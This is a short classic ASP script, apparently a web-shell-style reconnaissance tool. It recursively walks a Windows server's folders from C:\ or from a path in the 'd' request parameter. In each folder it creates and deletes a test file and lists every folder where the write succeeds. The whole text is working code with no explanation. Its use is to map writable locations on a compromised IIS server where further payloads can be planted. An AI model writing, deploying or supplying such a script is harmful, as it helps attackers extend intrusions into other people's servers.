<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Sub probe(d)
  On Error Resume Next
  fso.CreateTextFile(d & "\inert.txt").Close
  If Err = 0 Then Response.Write d & "<br>"
  fso.DeleteFile d & "\inert.txt"
  For Each s In fso.GetFolder(d).SubFolders
    probe s.Path
  Next
End Sub
If Request("d") = "" Then probe "C:\" Else probe Request("d")
%>
